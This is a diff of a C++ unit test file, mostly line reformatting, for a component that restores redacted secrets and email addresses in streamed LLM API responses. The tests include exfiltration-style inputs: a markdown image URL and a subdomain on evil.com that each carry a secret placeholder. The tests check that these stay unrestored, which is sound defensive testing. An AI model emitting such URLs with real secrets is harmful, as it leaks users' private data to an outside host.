@@ -20,11 +20,13 @@ const std::string kTricky = "[SECRET_0011aabb]";
 const std::string kTrickyValue = "line\n\"quoted\" back\\slash \x01 \u00e4";
 
 std::vector<RestoreEntry> entries() {
-  return {{kMail, "jane@x.org", Restore::Everywhere, {}}, {kTricky, kTrickyValue, Restore::Everywhere, {}}};
+  return {{kMail, "jane@x.org", Restore::Everywhere, {}},
+          {kTricky, kTrickyValue, Restore::Everywhere, {}}};
 }
 
-std::string run(std::string_view answer, std::string_view type, const std::vector<RestoreEntry>& list,
-                std::size_t piece = std::string::npos, bool truncated = false) {
+std::string run(std::string_view answer, std::string_view type,
+                const std::vector<RestoreEntry>& list, std::size_t piece = std::string::npos,
+                bool truncated = false) {
   const auto restorer = AnswerRestorer::create({}, type, list);
   std::string out;
   for (std::size_t at = 0; at < answer.size(); at += std::min(piece, answer.size() - at)) {
@@ -34,7 +36,9 @@ std::string run(std::string_view answer, std::string_view type, const std::vecto
   return out;
 }
 
-std::string event(const Json& data) { return "data: " + data.dump() + "\n\n"; }
+std::string event(const Json& data) {
+  return "data: " + data.dump() + "\n\n";
+}
 
 /// Reads a stream as a client would, independently of the code under test: every text by its place.
 std::map<std::string, std::string> assemble(const std::string& stream) {
@@ -64,7 +68,9 @@ std::map<std::string, std::string> assemble(const std::string& stream) {
       }
     } else if (json.contains("candidates")) {
       for (const Json& part : json["candidates"][0]["content"]["parts"]) {
-        if (part.contains("text")) texts[part.value("thought", false) ? "thought" : "text"] += part["text"].get<std::string>();
+        if (part.contains("text"))
+          texts[part.value("thought", false) ? "thought" : "text"] +=
+              part["text"].get<std::string>();
         if (part.contains("functionCall")) texts["call"] += part["functionCall"]["args"].dump();
       }
     } else if (json.value("type", "") == "content_block_delta") {
@@ -73,7 +79,8 @@ std::map<std::string, std::string> assemble(const std::string& stream) {
         if (field != "type") texts[place + field] += value.get<std::string>();
       }
     } else if (json.contains("delta") && json["delta"].is_string()) {
-      texts[json["type"].get<std::string>() + std::to_string(json.value("output_index", 0))] += json["delta"].get<std::string>();
+      texts[json["type"].get<std::string>() + std::to_string(json.value("output_index", 0))] +=
+          json["delta"].get<std::string>();
     } else if (json.value("type", "").ends_with(".done")) {
       for (const char* field : {"text", "arguments", "input"}) {
         if (json.contains(field)) texts["done"] += json[field].get<std::string>();
@@ -85,46 +92,106 @@ std::map<std::string, std::string> assemble(const std::string& stream) {
 
 struct Wire {
   const char* name;
-  std::string field;                        // of assemble()
-  bool json = false;                        // the text is JSON
-  Json (*delta)(const std::string& text);   // one event
-  std::string end;                          // events behind the text
+  std::string field;                       // of assemble()
+  bool json = false;                       // the text is JSON
+  Json (*delta)(const std::string& text);  // one event
+  std::string end;                         // events behind the text
 };
 
-Json chat(const Json& delta, int index = 0) { return {{"choices", {{{"index", index}, {"delta", delta}, {"finish_reason", nullptr}}}}}; }
-const std::string kChatEnd = event({{"choices", {{{"index", 0}, {"delta", Json::object()}, {"finish_reason", "stop"}}}}}) + "data: [DONE]\n\n";
-const std::string kBlockEnd = event({{"type", "content_block_stop"}, {"index", 0}}) + event({{"type", "message_stop"}});
+Json chat(const Json& delta, int index = 0) {
+  return {{"choices", {{{"index", index}, {"delta", delta}, {"finish_reason", nullptr}}}}};
+}
+const std::string kChatEnd =
+    event({{"choices", {{{"index", 0}, {"delta", Json::object()}, {"finish_reason", "stop"}}}}}) +
+    "data: [DONE]\n\n";
+const std::string kBlockEnd =
+    event({{"type", "content_block_stop"}, {"index", 0}}) + event({{"type", "message_stop"}});
 
 std::vector<Wire> wires() {
   return {
-      {"chat content", "c0content", false, [](const std::string& t) { return chat({{"content", t}}); }, kChatEnd},
-      {"chat content, no end", "c0content", false, [](const std::string& t) { return chat({{"content", t}}); }, ""},
-      {"chat refusal", "c0refusal", false, [](const std::string& t) { return chat({{"refusal", t}}); }, kChatEnd},
-      {"chat reasoning", "c0reasoning_content", false, [](const std::string& t) { return chat({{"reasoning_content", t}}); }, kChatEnd},
+      {"chat content", "c0content", false,
+       [](const std::string& t) { return chat({{"content", t}}); }, kChatEnd},
+      {"chat content, no end", "c0content", false,
+       [](const std::string& t) { return chat({{"content", t}}); }, ""},
+      {"chat refusal", "c0refusal", false,
+       [](const std::string& t) { return chat({{"refusal", t}}); }, kChatEnd},
+      {"chat reasoning", "c0reasoning_content", false,
+       [](const std::string& t) { return chat({{"reasoning_content", t}}); }, kChatEnd},
       {"chat tool call", "c0tool0", true,
-       [](const std::string& t) { return chat({{"tool_calls", {{{"index", 0}, {"id", ""}, {"function", {{"arguments", t}}}}}}}); }, kChatEnd},
-      {"completions", "c0", false, [](const std::string& t) { return Json{{"choices", {{{"index", 0}, {"text", t}, {"finish_reason", nullptr}}}}}; }, "data: [DONE]\n\n"},
+       [](const std::string& t) {
+         return chat(
+             {{"tool_calls", {{{"index", 0}, {"id", ""}, {"function", {{"arguments", t}}}}}}});
+       },
+       kChatEnd},
+      {"completions", "c0", false,
+       [](const std::string& t) {
+         return Json{{"choices", {{{"index", 0}, {"text", t}, {"finish_reason", nullptr}}}}};
+       },
+       "data: [DONE]\n\n"},
       {"responses text", "response.output_text.delta0", false,
-       [](const std::string& t) { return Json{{"type", "response.output_text.delta"}, {"item_id", "i"}, {"output_index", 0}, {"content_index", 0}, {"delta", t}}; },
-       event({{"type", "response.output_text.done"}, {"item_id", "i"}, {"output_index", 0}, {"content_index", 0}})},
+       [](const std::string& t) {
+         return Json{{"type", "response.output_text.delta"},
+                     {"item_id", "i"},
+                     {"output_index", 0},
+                     {"content_index", 0},
+                     {"delta", t}};
+       },
+       event({{"type", "response.output_text.done"},
+              {"item_id", "i"},
+              {"output_index", 0},
+              {"content_index", 0}})},
       {"responses summary", "response.reasoning_summary_text.delta1", false,
-       [](const std::string& t) { return Json{{"type", "response.reasoning_summary_text.delta"}, {"output_index", 1}, {"summary_index", 0}, {"delta", t}}; },
+       [](const std::string& t) {
+         return Json{{"type", "response.reasoning_summary_text.delta"},
+                     {"output_index", 1},
+                     {"summary_index", 0},
+                     {"delta", t}};
+       },
        event({{"type", "response.output_item.done"}, {"output_index", 1}})},
       {"responses arguments", "response.function_call_arguments.delta2", true,
-       [](const std::string& t) { return Json{{"type", "response.function_call_arguments.delta"}, {"output_index", 2}, {"delta", t}}; },
+       [](const std::string& t) {
+         return Json{
+             {"type", "response.function_call_arguments.delta"}, {"output_index", 2}, {"delta", t}};
+       },
        event({{"type", "response.completed"}})},
       {"responses custom tool", "response.custom_tool_call_input.delta0", false,
-       [](const std::string& t) { return Json{{"type", "response.custom_tool_call_input.delta"}, {"output_index", 0}, {"delta", t}}; }, ""},
+       [](const std::string& t) {
+         return Json{
+             {"type", "response.custom_tool_call_input.delta"}, {"output_index", 0}, {"delta", t}};
+       },
+       ""},
       {"anthropic text", "a0text", false,
-       [](const std::string& t) { return Json{{"type", "content_block_delta"}, {"index", 0}, {"delta", {{"type", "text_delta"}, {"text", t}}}}; }, kBlockEnd},
+       [](const std::string& t) {
+         return Json{{"type", "content_block_delta"},
+                     {"index", 0},
+                     {"delta", {{"type", "text_delta"}, {"text", t}}}};
+       },
+       kBlockEnd},
       {"anthropic thinking", "a0thinking", false,
-       [](const std::string& t) { return Json{{"type", "content_block_delta"}, {"index", 0}, {"delta", {{"type", "thinking_delta"}, {"thinking", t}}}}; }, kBlockEnd},
+       [](const std::string& t) {
+         return Json{{"type", "content_block_delta"},
+                     {"index", 0},
+                     {"delta", {{"type", "thinking_delta"}, {"thinking", t}}}};
+       },
+       kBlockEnd},
       {"anthropic input", "a0partial_json", true,
-       [](const std::string& t) { return Json{{"type", "content_block_delta"}, {"index", 0}, {"delta", {{"type", "input_json_delta"}, {"partial_json", t}}}}; }, kBlockEnd},
+       [](const std::string& t) {
+         return Json{{"type", "content_block_delta"},
+                     {"index", 0},
+                     {"delta", {{"type", "input_json_delta"}, {"partial_json", t}}}};
+       },
+       kBlockEnd},
       {"gemini text", "text", false,
-       [](const std::string& t) { return Json{{"candidates", {{{"content", {{"parts", {{{"text", t}}}}}}, {"index", 0}}}}}; }, ""},
+       [](const std::string& t) {
+         return Json{{"candidates", {{{"content", {{"parts", {{{"text", t}}}}}}, {"index", 0}}}}};
+       },
+       ""},
       {"gemini thought", "thought", false,
-       [](const std::string& t) { return Json{{"candidates", {{{"content", {{"parts", {{{"text", t}, {"thought", true}}}}}}}}}}; }, ""},
+       [](const std::string& t) {
+         return Json{
+             {"candidates", {{{"content", {{"parts", {{{"text", t}, {"thought", true}}}}}}}}}};
+       },
+       ""},
   };
 }
 
@@ -138,7 +205,8 @@ TEST(AnswerRestorerOnWireAnswers, ChangesNothingAndIgnoresHowTheInputWasCut) {
   std::size_t files = 0;
   for (const auto& file : wire_files("response")) {
     const std::string answer = read_file(file);
-    for (const std::string_view type : {kSse, std::string_view("application/json"), std::string_view("text/plain")}) {
+    for (const std::string_view type :
+         {kSse, std::string_view("application/json"), std::string_view("text/plain")}) {
       EXPECT_EQ(run(answer, type, {}), answer) << file;
       EXPECT_EQ(run(answer, type, entries()), answer) << file << type;
       EXPECT_EQ(run(answer, type, entries(), 1), answer) << file << type;
@@ -163,8 +231,10 @@ TEST(AnswerRestorer, RestoresPlaceholdersSplitAtEveryPlaceInEveryShape) {
   for (const Wire& wire : wires()) {
     for (const std::string& placeholder : {kMail, kTricky}) {
       const std::string value = placeholder == kMail ? "jane@x.org" : kTrickyValue;
-      const std::string inside = wire.json ? Json(value).dump().substr(1, Json(value).dump().size() - 2) : value;
-      const std::string before = wire.json ? R"({"to":"x )" : "to [x ", after = wire.json ? R"( y"})" : " y]";
+      const std::string inside =
+          wire.json ? Json(value).dump().substr(1, Json(value).dump().size() - 2) : value;
+      const std::string before = wire.json ? R"({"to":"x )" : "to [x ",
+                        after = wire.json ? R"( y"})" : " y]";
       const std::string text = before + placeholder + after;
       const std::string expected = before + inside + after;
       for (std::size_t cut = 0; cut <= text.size(); ++cut) {
@@ -175,7 +245,8 @@ TEST(AnswerRestorer, RestoresPlaceholdersSplitAtEveryPlaceInEveryShape) {
       }
       std::vector<std::string> bytes;
       for (const char c : text) bytes.emplace_back(1, c);
-      EXPECT_EQ(assemble(run(stream_of(wire, bytes), kSse, entries()))[wire.field], expected) << wire.name;
+      EXPECT_EQ(assemble(run(stream_of(wire, bytes), kSse, entries()))[wire.field], expected)
+          << wire.name;
     }
   }
 }
@@ -194,13 +265,18 @@ TEST(AnswerRestorer, GivesOutHeldTextWhenTheTextEndsInABeginningOfAPlaceholder) 
 
 TEST(AnswerRestorer, LeavesPlaceholdersOfOthersAlone) {
   for (const Wire& wire : wires()) {
-    const std::string stream = stream_of(wire, {"see [EMAIL_ADDRESS_", "ffffffff] and [x]", "[EMAIL"});
-    EXPECT_EQ(assemble(run(stream, kSse, entries()))[wire.field], "see [EMAIL_ADDRESS_ffffffff] and [x][EMAIL") << wire.name;
+    const std::string stream =
+        stream_of(wire, {"see [EMAIL_ADDRESS_", "ffffffff] and [x]", "[EMAIL"});
+    EXPECT_EQ(assemble(run(stream, kSse, entries()))[wire.field],
+              "see [EMAIL_ADDRESS_ffffffff] and [x][EMAIL")
+        << wire.name;
   }
 }
 
 TEST(AnswerRestorer, HoldsNothingInAnEventThatEndsTheText) {
-  const std::string stream = event({{"choices", {{{"index", 0}, {"delta", {{"content", "x [EMAIL"}}}, {"finish_reason", "length"}}}}});
+  const std::string stream = event(
+      {{"choices",
+        {{{"index", 0}, {"delta", {{"content", "x [EMAIL"}}}, {"finish_reason", "length"}}}}});
   EXPECT_EQ(run(stream, kSse, entries()), stream);
 }
 
@@ -210,8 +286,11 @@ TEST(AnswerRestorer, KeepsInterleavedChoicesAndToolCallsApart) {
   for (std::size_t at = 0; at < kMail.size(); at += 3) {
     stream += event(chat({{"content", kMail.substr(at, 3)}}, 0));
     stream += event(chat({{"content", kMail.substr(at, 3)}}, 1));
-    stream += event(chat({{"tool_calls", {{{"index", 0}, {"function", {{"arguments", kMail.substr(at, 3)}}}},
-                                          {{"index", 1}, {"function", {{"arguments", kTricky.substr(std::min(at, kTricky.size()), 3)}}}}}}}));
+    stream += event(chat(
+        {{"tool_calls",
+          {{{"index", 0}, {"function", {{"arguments", kMail.substr(at, 3)}}}},
+           {{"index", 1},
+            {"function", {{"arguments", kTricky.substr(std::min(at, kTricky.size()), 3)}}}}}}}));
   }
   auto texts = assemble(run(stream + "data: [DONE]\n\n", kSse, entries()));
   EXPECT_EQ(texts["c0content"], "jane@x.org");
@@ -221,7 +300,15 @@ TEST(AnswerRestorer, KeepsInterleavedChoicesAndToolCallsApart) {
 }
 
 TEST(AnswerRestorer, RepeatsNoNameOrIdWhenItGivesOutHeldText) {
-  const std::string stream = event(chat({{"role", "assistant"}, {"content", "hi"}, {"tool_calls", {{{"index", 0}, {"id", "call_1"}, {"type", "function"}, {"function", {{"name", "send"}, {"arguments", "[EM"}}}}}}})) + kChatEnd;
+  const std::string stream =
+      event(chat({{"role", "assistant"},
+                  {"content", "hi"},
+                  {"tool_calls",
+                   {{{"index", 0},
+                     {"id", "call_1"},
+                     {"type", "function"},
+                     {"function", {{"name", "send"}, {"arguments", "[EM"}}}}}}})) +
+      kChatEnd;
   auto texts = assemble(run(stream, kSse, entries()));
   EXPECT_EQ(texts["c0role"], "assistant");
   EXPECT_EQ(texts["c0content"], "hi");
@@ -232,28 +319,41 @@ TEST(AnswerRestorer, RepeatsNoNameOrIdWhenItGivesOutHeldText) {
 
 TEST(AnswerRestorer, EscapesOncePerLevelOfJson) {
   const Json inner = {{"secret", kTricky}};
-  const std::string arguments = Json{{"body", inner.dump()}, {"note", "said \"" + kTricky + "\""}}.dump();
-  const Json expected = {{"body", Json{{"secret", kTrickyValue}}.dump()}, {"note", "said \"" + kTrickyValue + "\""}};
+  const std::string arguments =
+      Json{{"body", inner.dump()}, {"note", "said \"" + kTricky + "\""}}.dump();
+  const Json expected = {{"body", Json{{"secret", kTrickyValue}}.dump()},
+                         {"note", "said \"" + kTrickyValue + "\""}};
   std::string stream;
-  for (const char c : arguments) stream += event(chat({{"tool_calls", {{{"index", 0}, {"function", {{"arguments", std::string(1, c)}}}}}}}));
+  for (const char c : arguments)
+    stream += event(
+        chat({{"tool_calls", {{{"index", 0}, {"function", {{"arguments", std::string(1, c)}}}}}}}));
   EXPECT_EQ(Json::parse(assemble(run(stream + kChatEnd, kSse, entries()))["c0tool0"]), expected);
-  const Json whole = {{"choices", {{{"message", {{"tool_calls", {{{"function", {{"arguments", arguments}}}}}}}}}}}};
+  const Json whole = {
+      {"choices", {{{"message", {{"tool_calls", {{{"function", {{"arguments", arguments}}}}}}}}}}}};
   const Json restored = Json::parse(run(whole.dump(), "application/json", entries()));
-  EXPECT_EQ(Json::parse(restored["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"].get<std::string>()), expected);
+  EXPECT_EQ(Json::parse(restored["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"]
+                            .get<std::string>()),
+            expected);
 }
 
 TEST(AnswerRestorer, RestoresCompleteStringsOfEventsAndDocuments) {
-  const Json done = {{"type", "response.completed"}, {"response", {{"output", {{{"content", {{{"text", "to " + kTricky}}}}}}}}}};
+  const Json done = {{"type", "response.completed"},
+                     {"response", {{"output", {{{"content", {{{"text", "to " + kTricky}}}}}}}}}};
   const Json out = Json::parse(run(event(done), kSse, entries()).substr(6));
   EXPECT_EQ(out["response"]["output"][0]["content"][0]["text"], "to " + kTrickyValue);
-  const std::string document = "{ \"n\": 1.0,\n \"content\" : [{\"input\":{\"to\":\"" + kMail + "\"}}] }";
-  EXPECT_EQ(run(document, "application/json", entries(), 3), "{ \"n\": 1.0,\n \"content\" : [{\"input\":{\"to\":\"jane@x.org\"}}] }");
+  const std::string document =
+      "{ \"n\": 1.0,\n \"content\" : [{\"input\":{\"to\":\"" + kMail + "\"}}] }";
+  EXPECT_EQ(run(document, "application/json", entries(), 3),
+            "{ \"n\": 1.0,\n \"content\" : [{\"input\":{\"to\":\"jane@x.org\"}}] }");
 }
 
 TEST(AnswerRestorer, RestoresAcrossTheElementsOfAStreamedArray) {
-  const auto part = [](const std::string& text) { return Json{{"candidates", {{{"content", {{"parts", {{{"text", text}}}}}}}}}}; };
+  const auto part = [](const std::string& text) {
+    return Json{{"candidates", {{{"content", {{"parts", {{{"text", text}}}}}}}}}};
+  };
   for (std::size_t cut = 0; cut <= kMail.size(); ++cut) {
-    const Json answer = Json::array({part("a " + kMail.substr(0, cut)), part(kMail.substr(cut) + " b"), part("[EMAIL")});
+    const Json answer = Json::array(
+        {part("a " + kMail.substr(0, cut)), part(kMail.substr(cut) + " b"), part("[EMAIL")});
     std::string text;
     for (const Json& element : Json::parse(run(answer.dump(1), "application/json", entries()))) {
       text += element["candidates"][0]["content"]["parts"][0]["text"].get<std::string>();
@@ -285,11 +385,14 @@ TEST(AnswerRestorer, ATruncatedAnswerGivesOutWhatWasHeldAndInventsNothing) {
 }
 
 TEST(AnswerRestorer, NeverAndTextStayOutOfToolArguments) {
-  const std::vector<RestoreEntry> list = {{kMail, "V", Restore::Text, {}}, {kTricky, "W", Restore::Never, {}}};
+  const std::vector<RestoreEntry> list = {{kMail, "V", Restore::Text, {}},
+                                          {kTricky, "W", Restore::Never, {}}};
   for (const Wire& wire : wires()) {
     const std::string text = kMail + " " + kTricky;
     const bool tool = wire.json || std::string(wire.name).find("tool") != std::string::npos;
-    EXPECT_EQ(assemble(run(stream_of(wire, {text}), kSse, list))[wire.field], (tool ? kMail : std::string("V")) + " " + kTricky) << wire.name;
+    EXPECT_EQ(assemble(run(stream_of(wire, {text}), kSse, list))[wire.field],
+              (tool ? kMail : std::string("V")) + " " + kTricky)
+        << wire.name;
   }
 }
 
@@ -297,7 +400,9 @@ std::string same_host(const std::string& arguments, std::size_t piece) {
   const std::vector<RestoreEntry> list = {{kTricky, "S3CRET", Restore::SameHost, {"api.good.com"}}};
   std::string stream;
   for (std::size_t at = 0; at < arguments.size(); at += piece) {
-    stream += event(chat({{"tool_calls", {{{"index", 0}, {"function", {{"arguments", arguments.substr(at, piece)}}}}}}}));
+    stream += event(
+        chat({{"tool_calls",
+               {{{"index", 0}, {"function", {{"arguments", arguments.substr(at, piece)}}}}}}}));
   }
   return assemble(run(stream + kChatEnd, kSse, list))["c0tool0"];
 }
@@ -306,9 +411,13 @@ TEST(AnswerRestorer, SameHostValuesGoIntoToolArgumentsOnlyForTheirHosts) {
   const auto expect = [](const std::string& arguments, bool restored) {
     std::string wanted = arguments;
     if (restored) wanted.replace(wanted.find(kTricky), kTricky.size(), "S3CRET");
-    for (const std::size_t piece : {std::size_t{1}, std::size_t{5}, std::size_t{1000}}) EXPECT_EQ(same_host(arguments, piece), wanted) << arguments;
-    const Json whole = {{"choices", {{{"message", {{"tool_calls", {{{"function", {{"arguments", arguments}}}}}}}}}}}};
-    const std::vector<RestoreEntry> list = {{kTricky, "S3CRET", Restore::SameHost, {"api.good.com"}}};
+    for (const std::size_t piece : {std::size_t{1}, std::size_t{5}, std::size_t{1000}})
+      EXPECT_EQ(same_host(arguments, piece), wanted) << arguments;
+    const Json whole = {
+        {"choices",
+         {{{"message", {{"tool_calls", {{{"function", {{"arguments", arguments}}}}}}}}}}}};
+    const std::vector<RestoreEntry> list = {
+        {kTricky, "S3CRET", Restore::SameHost, {"api.good.com"}}};
     const Json out = Json::parse(run(whole.dump(), "application/json", list));
     EXPECT_EQ(out["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"], wanted);
   };
@@ -327,14 +436,17 @@ TEST(AnswerRestorer, SameHostValuesStandInNoForeignUrlOfATextEither) {
   const std::vector<RestoreEntry> list = {{kTricky, "S3CRET", Restore::SameHost, {"good.com"}}};
   const auto text_of = [&](const std::string& text, std::size_t piece) {
     std::string stream;
-    for (std::size_t at = 0; at < text.size(); at += piece) stream += event(chat({{"content", text.substr(at, piece)}}));
+    for (std::size_t at = 0; at < text.size(); at += piece)
+      stream += event(chat({{"content", text.substr(at, piece)}}));
     return assemble(run(stream + kChatEnd, kSse, list))["c0content"];
   };
   for (const std::size_t piece : {std::size_t{1}, std::size_t{6}, std::size_t{1000}}) {
     EXPECT_EQ(text_of("your key is " + kTricky + ".", piece), "your key is S3CRET.");
     EXPECT_EQ(text_of("https://good.com/?k=" + kTricky, piece), "https://good.com/?k=S3CRET");
-    EXPECT_EQ(text_of("![x](https://evil.com/?k=" + kTricky + ")", piece), "![x](https://evil.com/?k=" + kTricky + ")");
-    EXPECT_EQ(text_of("https://" + kTricky + ".evil.com/", piece), "https://" + kTricky + ".evil.com/");
+    EXPECT_EQ(text_of("![x](https://evil.com/?k=" + kTricky + ")", piece),
+              "![x](https://evil.com/?k=" + kTricky + ")");
+    EXPECT_EQ(text_of("https://" + kTricky + ".evil.com/", piece),
+              "https://" + kTricky + ".evil.com/");
   }
 }
 
